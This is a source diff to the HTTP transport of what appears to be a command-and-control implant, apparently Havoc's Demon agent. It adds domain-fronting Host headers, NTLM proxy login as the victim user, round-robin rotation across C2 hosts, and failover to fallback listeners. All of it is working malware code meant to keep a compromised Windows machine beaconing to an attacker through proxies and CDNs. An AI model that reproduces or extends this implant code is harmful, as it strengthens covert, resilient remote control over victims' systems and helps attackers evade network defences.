@@ -56,7 +56,13 @@ BOOL HttpSend(
             HttpProxy = Instance->Config.Transport.Proxy.Url;
 
             /* PRINTF_DONT_SEND( "WinHttpOpen( %ls, WINHTTP_ACCESS_TYPE_NAMED_PROXY, %ls, WINHTTP_NO_PROXY_BYPASS, 0 )\n", Instance->Config.Transport.UserAgent, HttpProxy ) */
-            Instance->hHttpSession = Instance->Win32.WinHttpOpen( Instance->Config.Transport.UserAgent, WINHTTP_ACCESS_TYPE_NAMED_PROXY, HttpProxy, WINHTTP_NO_PROXY_BYPASS, 0 );
+            Instance->hHttpSession = Instance->Win32.WinHttpOpen(
+                Instance->Config.Transport.UserAgent,
+                WINHTTP_ACCESS_TYPE_NAMED_PROXY,
+                HttpProxy,
+                Instance->Config.Transport.Proxy.Bypass ? Instance->Config.Transport.Proxy.Bypass : WINHTTP_NO_PROXY_BYPASS,
+                0
+            );
         } else {
             // Autodetect proxy settings
             /* PRINTF_DONT_SEND( "WinHttpOpen( %ls, WINHTTP_ACCESS_TYPE_NO_PROXY, WINHTTP_NO_PROXY_NAME, WINHTTP_NO_PROXY_BYPASS, 0 )\n", Instance->Config.Transport.UserAgent ) */
@@ -135,6 +141,13 @@ BOOL HttpSend(
         Iterator++;
     } while ( TRUE );
 
+    /* the host we are using might want its own Host header */
+    if ( Instance->Config.Transport.Host->HostHeader ) {
+        if ( ! Instance->Win32.WinHttpAddRequestHeaders( Request, Instance->Config.Transport.Host->HostHeader, -1, WINHTTP_ADDREQ_FLAG_ADD | WINHTTP_ADDREQ_FLAG_REPLACE ) ) {
+            PRINTF_DONT_SEND( "Failed to add host header: %ls", Instance->Config.Transport.Host->HostHeader )
+        }
+    }
+
     if ( Instance->Config.Transport.Proxy.Enabled ) {
 
         // Use preconfigured proxy
@@ -167,6 +180,18 @@ BOOL HttpSend(
             }
         }
 
+        /* NTLM without explicit credentials means we authenticate as the current user */
+        if ( Instance->Config.Transport.Proxy.AuthScheme == TRANSPORT_HTTP_PROXY_AUTH_NTLM && ! Instance->Config.Transport.Proxy.Username ) {
+            HttpFlags = WINHTTP_AUTOLOGON_SECURITY_LEVEL_LOW;
+
+            if ( ! Instance->Win32.WinHttpSetOption( Request, WINHTTP_OPTION_AUTOLOGON_POLICY, &HttpFlags, sizeof( DWORD ) ) ) {
+                PRINTF_DONT_SEND( "Failed to set autologon policy %u", NtGetLastError() );
+            }
+        }
+
+    } else if ( Instance->Config.Transport.Proxy.Mode == TRANSPORT_HTTP_PROXY_DIRECT ) {
+        // talk directly to the listener without looking up any system proxy
+
     } else if ( ! Instance->LookedForProxy ) {
         // Autodetect proxy settings using the Web Proxy Auto-Discovery (WPAD) protocol
 
@@ -318,6 +343,9 @@ LEAVE:
     if ( ! Successful ) {
         /* if we hit our max then we use our next host */
         Instance->Config.Transport.Host = HostFailure( Instance->Config.Transport.Host );
+    } else if ( Instance->Config.Transport.HostRotation == TRANSPORT_HTTP_ROTATION_ROUND_ROBIN ) {
+        /* round-robin moves on to the next host after every request */
+        Instance->Config.Transport.Host = HostRotation( TRANSPORT_HTTP_ROTATION_ROUND_ROBIN );
     }
 
     return Successful;
@@ -364,6 +392,7 @@ PHOST_DATA HostAdd(
     HostData->Host = MmHeapAlloc( Size + sizeof( WCHAR ) );
     HostData->Port = Port;
     HostData->Dead = FALSE;
+    HostData->HostHeader = NULL;
     HostData->Next = Instance->Config.Transport.Hosts;
 
     /* Copy host to our buffer */
@@ -386,6 +415,15 @@ PHOST_DATA HostFailure( PHOST_DATA Host )
          * use next one */
         Host->Dead = TRUE;
 
+        if ( Instance->Config.Transport.NumHosts > 1 )
+        {
+            /*
+             * Different CDNs can have different WPAD rules.
+             * After rotating, look for the proxy again
+             */
+            Instance->LookedForProxy = FALSE;
+        }
+
         /* Get our next host based on our rotation strategy. */
         return HostRotation( Instance->Config.Transport.HostRotation );
     }
@@ -434,20 +472,49 @@ PHOST_DATA HostRandom()
     return Host;
 }
 
+/* hosts are prepended to the linked list so the config order is reversed */
+PHOST_DATA HostByIndex( DWORD Index )
+{
+    PHOST_DATA Host  = Instance->Config.Transport.Hosts;
+    DWORD      Count = HostCount();
+
+    if ( Index >= Count )
+        return NULL;
+
+    for ( DWORD i = 0; i < ( Count - 1 - Index ) && Host; i++ )
+        Host = Host->Next;
+
+    return Host;
+}
+
 PHOST_DATA HostRotation( SHORT Strategy )
 {
     PHOST_DATA Host = NULL;
 
-    if ( Instance->Config.Transport.NumHosts > 1 )
+    if ( Strategy == TRANSPORT_HTTP_ROTATION_ROUND_ROBIN )
     {
-        /*
-         * Different CDNs can have different WPAD rules.
-         * After rotating, look for the proxy again
-         */
-        Instance->LookedForProxy = FALSE;
-    }
+        DWORD Count = 0;
 
-    if ( Strategy == TRANSPORT_HTTP_ROTATION_ROUND_ROBIN )
+        /* If our current host is empty
+         * then start with the top host from our linked list. */
+        if ( ! Instance->Config.Transport.Host )
+            return Instance->Config.Transport.Hosts;
+
+        Host = Instance->Config.Transport.Host;
+
+        /* walk the linked list (wrapping around) until we find the next alive host */
+        for ( Count = 0; Count < HostCount(); Count++ )
+        {
+            Host = Host->Next ? Host->Next : Instance->Config.Transport.Hosts;
+
+            if ( ! Host->Dead )
+                break;
+        }
+
+        if ( Host && Host->Dead )
+            Host = NULL;
+    }
+    else if ( Strategy == TRANSPORT_HTTP_ROTATION_FAILOVER )
     {
         DWORD Count = 0;
 
@@ -478,10 +545,14 @@ PHOST_DATA HostRotation( SHORT Strategy )
 
         /* if we fail use the first host we get available. */
         if ( Host->Dead )
-            /* fallback to Round Robin */
-            Host = HostRotation( TRANSPORT_HTTP_ROTATION_ROUND_ROBIN );
+            /* fallback to Failover */
+            Host = HostRotation( TRANSPORT_HTTP_ROTATION_FAILOVER );
     }
 
+    /* every host of the listener is dead. fail over to the next listener of the list */
+    if ( ! Host && HttpFailover() )
+        return Instance->Config.Transport.Host;
+
     /* if we specified infinite retries then reset every "Failed" retries in our linked list and do this forever...
      * as the operator wants. */
     if ( ( Instance->Config.Transport.HostMaxRetries == 0 ) && ! Host )
@@ -568,4 +639,217 @@ BOOL HostCheckup()
 
     return Alive;
 }
+
+/*!
+ * @brief
+ *  saves the listener in use to the transport list
+ *
+ * @param Index
+ *  index of the listener in the transport list
+ */
+VOID HttpTransportSave(
+    _In_ DWORD Index
+) {
+    PHTTP_TRANSPORT Transport = &Instance->Config.Transport.Transports[ Index ];
+
+    Transport->Hosts     = Instance->Config.Transport.Hosts;
+    Transport->NumHosts  = Instance->Config.Transport.NumHosts;
+    Transport->Secure    = Instance->Config.Transport.Secure;
+    Transport->UserAgent = Instance->Config.Transport.UserAgent;
+    Transport->Uris      = Instance->Config.Transport.Uris;
+    Transport->Headers   = Instance->Config.Transport.Headers;
+}
+
+/*!
+ * @brief
+ *  uses the listener of the transport list from now on
+ *
+ * @param Index
+ *  index of the listener in the transport list
+ */
+VOID HttpTransportLoad(
+    _In_ DWORD Index
+) {
+    PHTTP_TRANSPORT Transport = &Instance->Config.Transport.Transports[ Index ];
+
+    Instance->Config.Transport.Hosts          = Transport->Hosts;
+    Instance->Config.Transport.NumHosts       = Transport->NumHosts;
+    Instance->Config.Transport.Secure         = Transport->Secure;
+    Instance->Config.Transport.UserAgent      = Transport->UserAgent;
+    Instance->Config.Transport.Uris           = Transport->Uris;
+    Instance->Config.Transport.Headers        = Transport->Headers;
+    Instance->Config.Transport.TransportIndex = Index;
+}
+
+VOID HttpConfigHosts(
+    _In_ PPARSER Parser
+) {
+    PVOID  Buffer = NULL;
+    UINT32 Length = 0;
+    DWORD  Port   = 0;
+    DWORD  Count  = 0;
+
+    Instance->Config.Transport.Hosts = NULL;
+    Instance->Config.Transport.Host  = NULL;
+
+    /* Count contains our Hosts counter */
+    Count = ParserGetInt32( Parser );
+    PRINTF_DONT_SEND( "[CONFIG] Hosts [%d]\n:", Count )
+    for ( DWORD i = 0; i < Count; i++ )
+    {
+        Buffer = ParserGetBytes( Parser, &Length );
+        Port   = ParserGetInt32( Parser );
+
+        PRINTF_DONT_SEND( " - %ls:%ld\n", Buffer, Port )
+
+        /* if our host address is longer than 0 then lets use it. */
+        if ( Length > 0 ) {
+            /* Add parse host data to our linked list */
+            HostAdd( Buffer, Length, Port );
+        }
+    }
+    Instance->Config.Transport.NumHosts = HostCount();
+    PRINTF_DONT_SEND( "Hosts added => %d\n", Instance->Config.Transport.NumHosts )
+}
+
+VOID HttpConfigRequest(
+    _In_ PPARSER Parser
+) {
+    PVOID  Buffer = NULL;
+    UINT32 Length = 0;
+    DWORD  Count  = 0;
+
+    // Listener Secure (SSL)
+    Instance->Config.Transport.Secure = ParserGetInt32( Parser );
+    PRINTF_DONT_SEND( "[CONFIG] Secure: %s\n", Instance->Config.Transport.Secure ? "TRUE" : "FALSE" );
+
+    // UserAgent
+    Buffer = ParserGetBytes( Parser, &Length );
+    Instance->Config.Transport.UserAgent = MmHeapAlloc( Length + sizeof( WCHAR ) );
+    MemCopy( Instance->Config.Transport.UserAgent, Buffer, Length );
+    PRINTF_DONT_SEND( "[CONFIG] UserAgent: %ls\n", Instance->Config.Transport.UserAgent );
+
+    // Headers
+    Count = ParserGetInt32( Parser );
+    Instance->Config.Transport.Headers = MmHeapAlloc( sizeof( LPWSTR ) * ( ( Count + 1 ) * 2 ) );
+    PRINTF_DONT_SEND( "[CONFIG] Headers [%d]:\n", Count );
+    for ( DWORD i = 0; i < Count; i++ )
+    {
+        Buffer = ParserGetBytes( Parser, &Length );
+        Instance->Config.Transport.Headers[ i ] = MmHeapAlloc( Length + sizeof( WCHAR ) );
+        MemCopy( Instance->Config.Transport.Headers[ i ], Buffer, Length );
+        PRINTF_DONT_SEND( "  - %ls\n", Instance->Config.Transport.Headers[ i ] );
+    }
+    Instance->Config.Transport.Headers[ Count + 1 ] = NULL;
+
+    // Uris
+    Count = ParserGetInt32( Parser );
+    Instance->Config.Transport.Uris = MmHeapAlloc( sizeof( LPWSTR ) * ( ( Count + 1 ) * 2 ) );
+    PRINTF_DONT_SEND( "[CONFIG] Uris [%d]:\n", Count );
+    for ( DWORD i = 0; i < Count; i++ )
+    {
+        Buffer = ParserGetBytes( Parser, &Length );
+        Instance->Config.Transport.Uris[ i ] = MmHeapAlloc( Length + sizeof( WCHAR ) );
+        MemCopy( Instance->Config.Transport.Uris[ i ], Buffer, Length );
+        PRINTF_DONT_SEND( "  - %ls\n", Instance->Config.Transport.Uris[ i ] );
+    }
+    Instance->Config.Transport.Uris[ Count + 1 ] = NULL;
+}
+
+VOID HttpConfigHostHeaders(
+    _In_ PPARSER Parser
+) {
+    PHOST_DATA HostData = NULL;
+    PVOID      Buffer   = NULL;
+    UINT32     Length   = 0;
+    DWORD      Count    = 0;
+
+    Count = ParserGetInt32( Parser );
+    for ( DWORD i = 0; i < Count; i++ )
+    {
+        HostData = HostByIndex( i );
+
+        Buffer = ParserGetBytes( Parser, &Length );
+        if ( HostData && Length > 0 )
+        {
+            HostData->HostHeader = MmHeapAlloc( Length + sizeof( WCHAR ) );
+            MemCopy( HostData->HostHeader, Buffer, Length );
+            PRINTF_DONT_SEND( "[CONFIG] %ls:%ld => %ls\n", HostData->Host, HostData->Port, HostData->HostHeader );
+        }
+    }
+}
+
+VOID HttpConfigFallbacks(
+    _In_ PPARSER Parser
+) {
+    PHOST_DATA Host  = Instance->Config.Transport.Host;
+    DWORD      Count = 0;
+
+    Count = ParserGetInt32( Parser );
+    PRINTF_DONT_SEND( "[CONFIG] Fallback listeners [%d]\n", Count )
+
+    Instance->Config.Transport.NumTransports  = Count + 1;
+    Instance->Config.Transport.TransportIndex = 0;
+    Instance->Config.Transport.Transports     = MmHeapAlloc( sizeof( HTTP_TRANSPORT ) * Instance->Config.Transport.NumTransports );
+
+    /* the listener the demon has been built for comes first */
+    HttpTransportSave( 0 );
+
+    for ( DWORD i = 1; i <= Count; i++ )
+    {
+        HttpConfigHosts( Parser );
+        HttpConfigRequest( Parser );
+        HttpConfigHostHeaders( Parser );
+
+        HttpTransportSave( i );
+    }
+
+    HttpTransportLoad( 0 );
+
+    Instance->Config.Transport.Host = Host;
+}
+
+BOOL HttpFailover( VOID )
+{
+    PHOST_DATA Host  = NULL;
+    DWORD      Index = Instance->Config.Transport.TransportIndex + 1;
+
+    if ( Instance->Config.Transport.NumTransports <= 1 )
+        return FALSE;
+
+    if ( Index >= Instance->Config.Transport.NumTransports )
+    {
+        /* start over with the first listener only if we keep retrying forever */
+        if ( Instance->Config.Transport.HostMaxRetries != 0 )
+            return FALSE;
+
+        Index = 0;
+    }
+
+    HttpTransportLoad( Index );
+
+    /* give every host of the listener a fresh start */
+    for ( Host = Instance->Config.Transport.Hosts; Host; Host = Host->Next )
+    {
+        Host->Failures = 0;
+        Host->Dead     = FALSE;
+    }
+
+    /* the session has been opened with the user agent of the previous listener */
+    if ( Instance->hHttpSession )
+    {
+        Instance->Win32.WinHttpCloseHandle( Instance->hHttpSession );
+        Instance->hHttpSession = NULL;
+    }
+
+    /* the listener might sit behind another proxy */
+    Instance->LookedForProxy = FALSE;
+
+    Instance->Config.Transport.Host = NULL;
+    Instance->Config.Transport.Host = HostRotation( Instance->Config.Transport.HostRotation );
+
+    PRINTF_DONT_SEND( "Failed over to listener %d => %ls:%ld\n", Index, Instance->Config.Transport.Host->Host, Instance->Config.Transport.Host->Port )
+
+    return TRUE;
+}
 #endif